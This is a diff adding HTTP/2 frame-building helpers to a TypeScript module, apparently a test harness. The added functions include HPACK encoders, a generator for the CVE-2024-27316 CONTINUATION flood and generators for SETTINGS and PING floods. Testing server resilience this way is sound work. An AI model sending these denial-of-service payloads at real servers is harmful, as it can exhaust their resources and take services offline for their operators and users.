@@ -43,3 +43,52 @@ export function parseFrames(buf: Buffer): { type: number; flags: number; streamI
   }
   return out;
 }
+
+/** HPACK integer with an N-bit prefix (RFC 7541 §5.1), first byte's high bits from `mask`. */
+function hpackInt(n: number, prefixBits: number, mask: number): Buffer {
+  const max = (1 << prefixBits) - 1;
+  if (n < max) return Buffer.from([mask | n]);
+  const out = [mask | max];
+  n -= max;
+  while (n >= 128) {
+    out.push((n % 128) + 128);
+    n = Math.floor(n / 128);
+  }
+  out.push(n);
+  return Buffer.from(out);
+}
+
+/** A literal header field without indexing, new name (RFC 7541 §6.2.2), no Huffman. */
+export function literalHeader(name: string, value: string): Buffer {
+  const n = Buffer.from(name, 'latin1');
+  const v = Buffer.from(value, 'latin1');
+  return Buffer.concat([Buffer.from([0x00]), hpackInt(n.length, 7, 0), n, hpackInt(v.length, 7, 0), v]);
+}
+
+/** A header block split into HEADERS + CONTINUATION frames of at most `chunk` bytes on `streamId`. */
+export function headerFrames(block: Buffer, streamId: number, chunk = 16_384, endStream = true): Buffer {
+  const parts: Buffer[] = [];
+  for (let o = 0; o === 0 || o < block.length; o += chunk) {
+    const last = o + chunk >= block.length;
+    const flags = (last ? 0x4 : 0) | (o === 0 && endStream ? 0x1 : 0);
+    parts.push(frame(o === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, flags, streamId, block.subarray(o, o + chunk)));
+  }
+  return Buffer.concat(parts);
+}
+
+/**
+ * The CONTINUATION flood of CVE-2024-27316: a HEADERS without END_HEADERS followed by `n`
+ * CONTINUATION frames, none of which ends the block, each carrying a small header field.
+ */
+export function continuationFloodBytes(n: number, authority = '127.0.0.1'): Buffer {
+  const field = literalHeader('x-flood', 'a'.repeat(100));
+  const parts = [PREFACE, frame(FRAME.SETTINGS, 0, 0), frame(FRAME.HEADERS, 0x1, 1, getHeaderBlock(authority))];
+  for (let i = 0; i < n; i++) parts.push(frame(FRAME.CONTINUATION, 0, 1, field));
+  return Buffer.concat(parts);
+}
+
+/** `n` frames the server must answer (SETTINGS → ACK, PING → PING ACK), after the preface. */
+export function controlFloodBytes(kind: 'settings' | 'ping', n: number): Buffer {
+  const one = kind === 'settings' ? frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])) : frame(FRAME.PING, 0, 0, Buffer.alloc(8));
+  return Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0), ...Array.from({ length: n }, () => one)]);
+}
